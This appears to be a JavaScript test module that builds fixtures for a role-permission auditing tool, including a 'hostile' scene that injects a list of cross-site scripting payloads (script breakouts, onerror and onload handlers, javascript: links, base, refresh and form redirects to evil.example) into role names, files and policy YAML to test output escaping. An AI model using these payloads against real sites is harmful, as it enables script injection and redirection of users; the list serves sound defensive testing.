// The runs whose pages are tested.

import { readFileSync } from "node:fs";
import { join } from "node:path";
import { check, print, root } from "./harness.js";

export const LIBRARY = "cloudblue-reseller-marketplace";
export const example = (name) => readFileSync(join(root, "examples/roles", name), "utf8");

const setting = (module, name, levels) => ({
  moduleDescription: module, moduleFunctionDescription: name,
  addLevel: levels[0], editLevel: levels[1], deleteLevel: levels[2], inquireLevel: levels[3],
});
const snapshot = (name, settings, more = {}) => ({
  schema: "leastwise/role/v1", role: { name }, fetched_at: "2026-11-20T08:20:00Z",
  count: settings.length, complete: true, settings, ...more,
});

/** The names of `tests/formats/scenes.rs`, whose escapes JavaScript reads alike, and some for pages. */
export const hostileNames = () => {
  const source = readFileSync(join(root, "tests/formats/scenes.rs"), "utf8");
  const [, count, list] = source.match(/HOSTILE: \[&str; (\d+)\] = \[([^]*?)\n\];/);
  const names = new Function(`return [${list}]`)();
  if (names.length !== Number(count)) throw new Error(`${names.length} names instead of ${count}`);
  return [
    ...names,
    "<img src=x onerror=\"window.pwned=1\">",
    "\"><svg onload=window.pwned=2>",
    "' onmouseover='window.pwned=3' x='",
    "</script><script>window.pwned=4</script>",
    "</style><style>*{display:none}</style>",
    "</title></head><body onload=window.pwned=5>",
    "<a href=\"javascript:window.pwned=6\">click</a>",
    "<iframe srcdoc=\"<script>parent.pwned=7</script>\">",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<form action=https://evil.example/><input name=q>",
    "&lt;script&gt;window.pwned=8&lt;/script&gt;",
    "--><!--<plaintext>",
  ];
};

const hostile = () => {
  const names = hostileNames();
  const files = {};
  names.forEach((name, index) => {
    // The first role has every name in every place; the others bring their own.
    const here = index ? [name] : names;
    const rows = here.flatMap((name) => [
      setting(name, name, ["All", "None", "None", "None"]),
      setting("Finance", name, ["My", "None", "None", "My"]),
    ]);
    // A slash would name a directory, and file names are limited in length.
    const file = `${name.replaceAll("/", "_").slice(0, 60)} ${index}.json`;
    files[file] = snapshot(name, rows, { used_by: here.map((name) => ({ identifier: name, name })) });
  });
  names.forEach((name, index) => { files[`broken ${index} ${name.replaceAll("/", "_").slice(0, 60)}.json`] = name; });
  const functions = Object.fromEntries(names.slice(-10).map((name) => {
    const asked = { level: "All", purpose: name };
    return [name, { delete: asked, add: asked }];
  }));
  const roles = Object.keys(files);
  // JSON is YAML, and YAML wants what cannot be printed escaped.
  files["policy.yaml"] = JSON.stringify({
    schema: "leastwise/policy/v1", id: "hostile", title: names[0], version: names[18], permissions: { Finance: functions },
  }).replace(/[^ -~]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
  return check("hostile", files, ["-p", "policy.yaml", "--", ...roles], 3);
};

/** The pages of other subcommands: plans and documents. */
export const pages = () => {
  const role = { "role.json": example("cloudblue-too-much.json"), "admin.json": example("admin-snapshot.json"), "cut.json": example("cloudblue-first-page.json") };
  const plan = (name, args, code) => print(name, role, ["plan", "--format=html", ...args], code);
  const docs = (name, ...args) => print(name, {}, ["docs", "--format=html", ...args], 0);
  return Object.fromEntries([
    plan("plan", ["-p", LIBRARY, "role.json"], 1),
    plan("plan-new-role", ["-p", "cyberfox-autoelevate", "admin.json"], 1),
    plan("plan-several", ["-p", LIBRARY, "-p", "rewst", "role.json", "admin.json", "cut.json"], 4),
    docs("guide", "--kind=guide", LIBRARY),
    docs("guide-features", "--kind=guide", "rewst"),
    docs("guide-partial", "--kind=guide", "cyberfox-autoelevate"),
    docs("table", "--kind=table", LIBRARY),
    docs("index", "--kind=index", LIBRARY, "rewst", "quoter", "huntress", "gradient-msp"),
  ].map((made) => [made.name, made]));
};

/** Pseudorandom numbers that are the same in each run. */
const seeded = (seed) => () => {
  seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0;
  return seed / 2 ** 32;
};

/**
 * A role of so many functions, in modules of fifty, and four policies.
 * `listed` is the share of the functions that each policy lists, `right` that of the levels that are granted as asked.
 */
export const invented = (number, listed, right) => {
  const random = seeded(20261124);
  const pick = (list) => list[Math.floor(random() * list.length)];
  const operations = ["add", "edit", "delete", "inquire"];
  const what = ["synchronize tickets", "create agreements", "read configurations", "close what was removed", "bill what was used", "import contacts of customers"];
  const functions = Array.from({ length: number }, (_, index) =>
    [`Module ${String.fromCharCode(65 + Math.floor(index / 50))}`, `Invented Function ${index}`]);
  const files = {};
  const asked = new Map();
  for (const [policy, title] of [[1, "Alpha Billing"], [2, "Beta Desk"], [3, "Gamma Sync"], [4, "Delta Backup"]]) {
    const permissions = {};
    for (const [module, name] of functions) {
      if (random() > listed) continue;
      const row = {};
      for (const operation of operations) {
        if (random() > 0.5) continue;
        row[operation] = { level: pick(["My", "All", "All"]), purpose: `Required to ${pick(what)} (${title.toLowerCase()})` };
        if (random() < 0.15) row[operation].when = "billing";
        const levels = asked.get(name + operation) ?? [];
        asked.set(name + operation, [...levels, row[operation].level]);
      }
      if (Object.keys(row).length) (permissions[module] ??= {})[name] = row;
    }
    files[`policy${policy}.yaml`] = {
      schema: "leastwise/policy/v1", id: `integration-${policy}`, title, version: `${policy}.0`,
      features: { billing: { title: "Billing", default: policy % 2 === 0 } }, permissions,
    };
  }
  const levels = (name) => operations.map((operation) => {
    if (random() > right) return pick(["None", "My", "All"]);
    const needed = asked.get(name + operation) ?? [];
    return needed.includes("All") ? "All" : needed[0] ?? "None";
  });
  files["role.json"] = snapshot("Large role", functions.map(([module, name]) => setting(module, name, levels(name))));
  return files;
};
const FOUR = ["-p", "policy1.yaml", "-p", "policy2.yaml", "-p", "policy3.yaml", "-p", "policy4.yaml", "role.json"];

const waived = () => check("waived", {
  "role.json": example("cloudblue-too-much.json"),
  "leastwise.yaml": `schema: leastwise/config/v1
policies: [${LIBRARY}]
roles: [role.json]
waivers:
  - rule: excess-function
    module: Sales
    reason: until the <b>pilot</b> ends
    expires: 2027-01-31
    owner: ops@example.com
  - rule: missing-level
    reason: nothing needs this any more
    expires: 2026-11-01
`,
}, ["--today", "2026-11-24"], 1);

/** A member whose levels are right, and of whose list an item is missing. */
const lists = () => check("lists", {
  "role.json": snapshot("Lists", [
    setting("System", "Table Setup", ["None", "None", "None", "All"]),
    setting("System", "Report Writer", ["None", "None", "None", "None"]),
  ], { customize_items: [{ customizeIdentifier: "SystemTableSetup", itemIdentifier: "Service / Source" }] }),
  "policy.yaml": {
    schema: "leastwise/policy/v1", id: "lists", title: "Lists", coverage: "partial",
    features: { tickets: { title: "Tickets", default: true } },
    permissions: { System: {
      "Table Setup": { inquire: "All", purpose: "Reads tables", customize: { allow: ["Service / Source", "Service / Type"] } },
      "Report Writer": { note: "The page names it and no level." },
    } },
  },
}, ["--customize-items", "allowed", "-p", "policy.yaml", "role.json"], 1);

/** Every scene by name. */
export const scenes = () => Object.fromEntries([
  check("missing", { "role.json": example("cloudblue-missing-delete.json") }, ["-p", LIBRARY, "role.json"], 1),
  check("excess", { "role.json": example("cloudblue-too-much.json") }, ["-p", LIBRARY, "role.json"], 0),
  check("clean", { "role.json": example("cloudblue-exact.json") }, ["-p", LIBRARY, "role.json"], 0),
  check("incomplete", { "role.json": example("cloudblue-first-page.json") }, ["-p", LIBRARY, "role.json"], 4),
  check("admin", { "role.json": example("admin-snapshot.json") }, ["-p", LIBRARY, "role.json"], 1),
  check("unreadable", { "role.json": example("cloudblue-exact.json"), "broken.json": "[{\"id\": 1,\n  oops]" }, ["-p", LIBRARY, "role.json", "broken.json", "gone.json"], 3),
  check("several", {
    "a.json": example("cloudblue-missing-delete.json"), "b.json": example("cloudblue-too-much.json"),
    "c.json": example("cloudblue-exact.json"), "d.json": example("cloudblue-first-page.json"),
  }, ["-p", LIBRARY, "a.json", "b.json", "c.json", "d.json"], 4),
  check("unsure", {
    "a.json": example("admin-snapshot.json"), "b.json": example("cloudblue-first-page.json"), "c.json": example("cloudblue-exact.json"),
  }, ["-p", LIBRARY, "a.json", "b.json", "c.json"], 4),
  lists(),
  // As many functions as a role may have one day, each policy a list of the length that vendors publish.
  check("large", invented(500, 0.1, 0.9), FOUR, 1),
  // As many as it may have today, half of its levels granted at random: nearly everything is wrong.
  check("dense", invented(180, 0.3, 0.5), FOUR, 1),
  waived(),
  hostile(),
].map((made) => [made.name, made]));
